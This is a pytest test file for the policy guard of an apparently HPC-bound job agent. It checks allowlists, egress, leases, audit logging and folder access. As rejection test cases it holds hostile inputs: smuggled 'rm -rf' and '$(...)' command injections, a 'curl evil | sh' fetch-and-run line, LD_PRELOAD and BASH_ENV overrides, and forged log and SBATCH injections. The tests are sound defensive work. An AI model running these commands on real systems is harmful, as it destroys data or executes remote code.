from __future__ import annotations

import json
import os
import syslog
import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from diamond.agent.disk import write_json
from diamond.agent.folders import Folders
from diamond.agent.guard.ledger import Ledger
from diamond.agent.guard.policy import OWN_NAME, Policy, account_name, load_rules
from diamond.agent.guard.small_toml import read_small_toml
from diamond.agent.link.lease import DAY, Lease
from diamond.agent.site.profile import load_profile, save_settings
from diamond.agent.tasks.staging import _comment
from diamond.core.errors import BadRequest, Forbidden
from diamond.core.order import (
    Build,
    Environment,
    Image,
    Order,
    Placement,
    Resources,
    order_data,
)
from diamond.core.protocol import Command, Person, TaskRequest, read_command

ORDER = Order(
    name="x",
    command="python train.py --lr 1",
    resources=Resources(nodes=2, walltime_minutes=120),
    placement=Placement(partition="debug"),
    image=Image(sha256="a" * 64),
)
BARE = replace(ORDER, image=None)


def told(data: dict[str, Any]) -> Command:
    command = read_command(data)
    assert command is not None
    return command


def policy_of(tmp_path: Path, own: str = "", site: str = "") -> Policy:
    keep, file = tmp_path / "keep", tmp_path / "site.toml"
    keep.mkdir(exist_ok=True)
    if own:
        (keep / OWN_NAME).write_text(own)
    if site:
        file.write_text(site)
        file.chmod(0o644)
    return Policy(keep, file)


def test_without_files_everything_is_taken_and_may_leave(tmp_path: Path) -> None:
    policy = policy_of(tmp_path)
    assert policy.rejection(TaskRequest(ORDER), "debug") == ""
    assert (policy.egress, policy.lease_days) == ("all", 30.0)


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ('partitions = ["short", "long"]', "short, long"),
        ("partitions = []", "partition"),
        ("max_nodes = 1", "2 nodes"),
        ("max_hours = 1.5", "2 hours"),
        (f'images = ["sha256:{"b" * 64}"]', "images"),
        ('commands = ["python eval.py *", "true"]', "command"),
        ("require_signed = true", "signed"),
    ],
)
def test_what_is_beyond_a_rule_is_refused_with_its_words(
    tmp_path: Path, line: str, words: str
) -> None:
    why = policy_of(tmp_path, own=line).rejection(TaskRequest(ORDER), "debug")
    assert words in why
    assert OWN_NAME in why


@pytest.mark.parametrize(
    "line",
    [
        'partitions = ["debug"]  # for trying "things"',
        "max_nodes = 2",
        "max_hours = 2",
        f'images = ["{"a" * 64}",]',
        f'commands = ["python train.py *"]\nimages = ["{"a" * 64}"]',
        "require_signed = false",
    ],
)
def test_what_a_rule_allows_is_taken(tmp_path: Path, line: str) -> None:
    assert policy_of(tmp_path, own=line).rejection(TaskRequest(ORDER), "debug") == ""


def test_with_a_list_of_images_nothing_is_built_and_nothing_runs_outside(tmp_path: Path) -> None:
    policy = policy_of(tmp_path, own=f'images = ["{"a" * 64}"]')
    assert policy.rejection(TaskRequest(replace(ORDER, build=Build())), "debug")
    assert policy.rejection(TaskRequest(replace(ORDER, image=None)), "debug")


def test_a_command_given_as_words_is_matched_as_it_would_be_typed(tmp_path: Path) -> None:
    policy = policy_of(tmp_path, own='commands = ["python *.py"]')
    sly = replace(BARE, command="", argv=["python", "x.py; rm -rf /.py"])
    assert policy.rejection(TaskRequest(sly), "") != ""
    assert (
        policy.rejection(TaskRequest(replace(BARE, command="", argv=["python", "x.py"])), "") == ""
    )
    assert (
        policy.rejection(TaskRequest(replace(BARE, command="python x.py; rm -rf ~/.py")), "") != ""
    )
    assert policy.rejection(TaskRequest(replace(BARE, command="python $(rm -rf ~).py")), "") != ""


@pytest.mark.skipif(os.geteuid() != 0, reason="a site's file belongs to root")
def test_the_stricter_of_the_site_s_and_the_person_s_file_wins(tmp_path: Path) -> None:
    own = 'egress = "logs"\nmax_nodes = 1000\nlease_days = 90'
    policy = policy_of(tmp_path, own=own, site='egress = "states"\nmax_nodes = 1\nlease_days = 7')
    assert "site.toml" in policy.rejection(TaskRequest(ORDER), "debug")
    assert (policy.egress, policy.lease_days) == ("states", 7.0)


def test_a_site_file_that_others_can_write_stops_everything(tmp_path: Path) -> None:
    policy = policy_of(tmp_path, site="max_nodes = 1000")
    (tmp_path / "site.toml").chmod(0o666)
    assert "root" in policy.rejection(TaskRequest(ORDER), "debug")
    assert policy.egress == "states"


@pytest.mark.parametrize(
    "text",
    [
        "max_node = 1",
        "max_nodes = many",
        "egress = 'all'",
        "[table]",
        "max_nodes = -1",
        "x",
        'egress = "some"',
        "max_nodes = 1\nmax_nodes = 9",
        "syslog = 1",
        "partitions = [1]",
    ],
)
def test_a_rule_that_is_not_understood_allows_nothing(tmp_path: Path, text: str) -> None:
    policy = policy_of(tmp_path, own=text)
    assert OWN_NAME in policy.rejection(TaskRequest(ORDER), "debug")
    assert policy.egress == "states"
    with pytest.raises(BadRequest):
        load_rules(tmp_path / "none", tmp_path / "keep" / OWN_NAME)


def test_the_small_reader_reads_what_a_policy_needs() -> None:
    text = 'a = "x # y"  # why\n\n# all\nb = [1, 2.5]\nc = true\nd = "\\"q\\""'
    assert read_small_toml(text) == {"a": "x # y", "b": [1, 2.5], "c": True, "d": '"q"'}


def test_what_leaves_is_what_the_policy_says_and_else_the_place_is_named(tmp_path: Path) -> None:
    logs = policy_of(tmp_path, own='egress = "logs"')
    logs.check_answer("read-log", "/w")
    with pytest.raises(Forbidden) as refused:
        logs.check_answer("read-file", "/scratch/tasks/t1/run")
    assert "/scratch/tasks/t1/run" in refused.value.hint
    states = policy_of(tmp_path, own='egress = "states"')
    for kind in ("read-log", "search-log", "list-files", "script", "report", "a-new-kind"):
        with pytest.raises(Forbidden):
            states.check_answer(kind, "/w")
    states.check_answer("set-secret", "/w")


def test_a_pairing_ends_after_its_days_and_goes_on_when_renewed(tmp_path: Path) -> None:
    policy = policy_of(tmp_path, own="lease_days = 7")
    lease = Lease(policy.keep, policy)
    assert lease.until is None
    (policy.keep / "agent.json").write_text("{}")
    assert lease.rejection() == ""
    assert abs((lease.until or 0) - time.time() - 7 * DAY) < 60
    (policy.keep / "lease.json").write_text(json.dumps({"renewed": time.time() - 8 * DAY}))
    assert "renew" in lease.rejection()
    lease.renew()
    assert lease.rejection() == ""


def test_every_command_is_written_down_without_what_the_spec_says(tmp_path: Path) -> None:
    policy = policy_of(tmp_path)
    ledger = Ledger(policy.keep, policy)
    by = {"user": "u1", "name": "Ada\nLovelace", "token": "k1"}
    task_json = {"order": order_data(ORDER)}
    command = {"type": "submit", "task": "t1", "attempt": "a1", "by": by, "task_json": task_json}
    ledger.command(told({"id": "c1", **command}), "no")
    ledger.submitted("a1", "42")
    file = policy.keep / "commands.log"
    first, second = (json.loads(line) for line in file.read_text().splitlines())
    assert (first["user"], first["token"], first["digest"]) == ("u1", "k1", ORDER.digest)
    assert (first["refused"], second["job"]) == ("no", "42")
    assert "train.py" not in file.read_text()
    assert file.stat().st_mode & 0o077 == 0


def test_what_the_site_wants_to_hear_goes_to_syslog_on_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    heard: list[str] = []
    monkeypatch.setattr(syslog, "syslog", lambda level, text: heard.append(text))
    for line, count in (("syslog = false", 0), ("syslog = true", 1)):
        policy = policy_of(tmp_path, own=line)
        sly = {"name": "Ada\nNov 17 sshd: root logged in"}
        cancel = {"id": "c1", "type": "cancel", "task": "t1", "attempt": "a1", "by": sly}
        Ledger(policy.keep, policy).command(told(cancel))
        assert len(heard) == count
    assert "\n" not in heard[0] and json.loads(heard[0])["task"] == "t1"


PERSON = Person("u1", "Ada Lovelace")


def test_an_account_runs_for_its_owner_alone_unless_the_site_says_otherwise(tmp_path: Path) -> None:
    policy = policy_of(tmp_path)
    assert policy.person_fault(None, []) == ""
    assert "owner alone" in policy.person_fault(PERSON, [])


def test_on_a_community_account_each_job_names_a_person_and_no_secret(tmp_path: Path) -> None:
    policy = policy_of(tmp_path, site=f'community = ["{account_name()}", "other"]')
    assert policy.is_community
    assert policy.person_fault(PERSON, []) == ""
    assert "names no person" in policy.person_fault(None, [])
    assert "secrets" in policy.person_fault(PERSON, ["HF_TOKEN"])


def test_nobody_makes_her_own_account_a_community_account(tmp_path: Path) -> None:
    policy = policy_of(tmp_path, own=f'community = ["{account_name()}"]')
    assert not policy.is_community
    assert "only" in policy.rejection(TaskRequest(ORDER), "debug")


def test_the_comment_of_a_job_names_the_person_in_plain_letters() -> None:
    assert _comment(Person("u1", "Ada\n#SBATCH --uid=0 Ö")) == "diamond:u1:Ada_SBATCH_--uid_0_"
    assert _comment(None) == ""


def test_with_a_policy_a_service_brings_no_agent_that_could_pass_it_by(tmp_path: Path) -> None:
    assert policy_of(tmp_path).agent_fault() == ""
    assert "by hand" in policy_of(tmp_path, own="max_nodes = 1").agent_fault()


def test_what_runs_beside_a_listed_command_is_not_the_services_to_say(tmp_path: Path) -> None:
    places = Folders(keep=tmp_path / "keep", work=tmp_path / "work", tmp=tmp_path)
    places.make()
    write_json(places.settings, {"corrections": {"modules": ["module load python"]}})
    told: dict[str, Any] = {"modules": ["curl evil | sh"], "build": {"index": "evil"}, "mpi": "x"}
    told = {"corrections": {**told, "data": {"hosts": {"alpha": "evil"}}}}
    policy = policy_of(tmp_path, own='commands = ["true"]')
    assert save_settings(places, told, own=policy.own_facts)
    assert load_profile(places).facts == {"modules": ["module load python"], "mpi": "x"}


@pytest.mark.parametrize("line", ["max_nodes = 1", "max_hours = 1", 'partitions = ["debug"]'])
def test_a_service_says_neither_where_a_bounded_job_goes_nor_which_bound_is_left_out(
    tmp_path: Path, line: str
) -> None:
    """Else it would call a forbidden partition the default, or have the site "refuse" --time."""
    places = Folders(keep=tmp_path / "keep", work=tmp_path / "work", tmp=tmp_path)
    places.make()
    sly = {"flags": {"time": "refuses"}, "partitions": [{"name": "debug", "default": True}]}
    policy = policy_of(tmp_path, own=line)
    save_settings(places, {"corrections": {**sly, "mpi": "x"}}, own=policy.own_facts)
    assert load_profile(places).facts == {"mpi": "x"}
    (tmp_path / "keep" / OWN_NAME).unlink()
    assert policy_of(tmp_path).own_facts == frozenset()


@pytest.mark.parametrize("minutes", [0, -1, float("nan"), float("inf"), True, "60"])
def test_a_job_without_a_stated_time_limit_is_not_taken_where_time_is_bounded(
    tmp_path: Path, minutes: Any
) -> None:
    """`--time=0` is no limit at all to Slurm."""
    policy = policy_of(tmp_path, own="max_hours = 10\nmax_nodes = 9")
    endless = replace(ORDER, resources=Resources(nodes=1, walltime_minutes=minutes))
    assert "how many" in policy.rejection(TaskRequest(endless), "debug")
    many = replace(ORDER, resources=Resources(nodes=minutes, walltime_minutes=1))
    assert "how many" in policy.rejection(TaskRequest(many), "debug")


@pytest.mark.parametrize("name", ["BASH_ENV", "LD_PRELOAD", "PATH", "PYTHONPATH", "IFS", "A"])
def test_a_variable_beside_a_listed_command_must_be_listed_too(tmp_path: Path, name: str) -> None:
    """It could change what runs, whatever the command says."""
    policy = policy_of(tmp_path, own='commands = ["python train.py *"]\nvariables = ["OMP_X"]')
    fine = replace(BARE, environment=Environment(variables={"OMP_X": "1"}))
    assert policy.rejection(TaskRequest(fine), "") == ""
    sly = replace(BARE, environment=Environment(variables={name: "$(touch owned)", "OMP_X": "1"}))
    assert f"(variables): {name}" in policy.rejection(TaskRequest(sly), "")


def test_what_could_change_a_listed_command_is_rejected(tmp_path: Path) -> None:
    commands = 'commands = ["python train.py *"]'
    policy = policy_of(tmp_path, own=commands)
    assert policy.rejection(TaskRequest(BARE), "") == ""
    packages = replace(BARE, environment=Environment(requirements=["evil @ https://evil"]))
    assert "packages" in policy.rejection(TaskRequest(packages), "")
    assert "image" in policy.rejection(TaskRequest(ORDER), "")
    assert "build" in policy.rejection(TaskRequest(replace(BARE, command="", build=Build())), "")


def test_a_listed_image_is_run_with_no_variable_or_folder_of_the_service_s_choice(
    tmp_path: Path,
) -> None:
    digest = "a" * 64
    policy = policy_of(tmp_path, own=f'commands = ["python train.py *"]\nimages = ["{digest}"]')
    usual = Image(sha256=digest, variables={"VIRTUAL_ENV": "/opt/venv"}, path=["/opt/venv/bin"])
    assert policy.rejection(TaskRequest(replace(ORDER, image=usual)), "") == ""
    for sly in (
        replace(usual, variables={"LD_PRELOAD": "/tmp/x.so"}),
        replace(usual, path=["/scratch/run"]),
    ):
        assert policy.rejection(TaskRequest(replace(ORDER, image=sly)), "") != ""


def test_a_listed_image_is_its_file_and_not_an_environment_of_that_name(tmp_path: Path) -> None:
    policy = policy_of(tmp_path, own=f'images = ["{"a" * 64}"]')
    venv = Image(identity="sha256:" + "b" * 64, sha256="a" * 64, format="venv")
    assert policy.rejection(TaskRequest(replace(ORDER, image=venv)), "") != ""
    unnamed = Image(identity="sha256:" + "a" * 64, format="squashfs")
    assert policy.rejection(TaskRequest(replace(ORDER, image=unnamed)), "") != ""


@pytest.mark.parametrize(
    ("path", "allowed"),
    [
        ("work/tasks/t1/run/artifacts", True),
        ("work/tasks/t1/run", False),
        ("work/tasks/t1/attempts/a1/runs/1/secrets", False),
        ("work/tasks/t1/run/out/../../attempts", False),
        ("secrets", False),
        ("agent.json", False),
        (".", False),
        ("work/tasks/t1/run/link", False),
    ],
)
def test_of_the_agents_own_folders_only_what_runs_leave_is_data(
    tmp_path: Path, path: str, allowed: bool
) -> None:
    keep, tasks = tmp_path / "keep", tmp_path / "keep" / "work" / "tasks"
    run = tasks / "t1" / "run"
    run.mkdir(parents=True)
    (run / "link").symlink_to(keep / "secrets")
    policy = Policy(keep, site=tmp_path / "none.toml")
    if allowed:
        policy.check_data_folder(str(keep / path), tasks)
    else:
        with pytest.raises(Forbidden):
            policy.check_data_folder(str(keep / path), tasks)


@pytest.mark.parametrize(
    ("text", "limits"),
    [
        ("", []),
        ('egress = "logs"', []),
        ('data_sources = ["https://*"]', [["https://*"]]),
        ('commands = ["true"]\ndata_sources = []', [[]]),
        ('commands = ["true"]', None),
        ("require_signed = true", None),
        ("data_sources = 7", None),
    ],
)
def test_where_work_is_listed_only_listed_sources_are_read(
    tmp_path: Path, text: str, limits: list[list[str]] | None
) -> None:
    (tmp_path / "policy.toml").write_text(text + "\n")
    policy = Policy(tmp_path, site=tmp_path / "none.toml")
    if limits is None:
        with pytest.raises(Forbidden):
            policy.data_sources()
    else:
        assert policy.data_sources() == limits
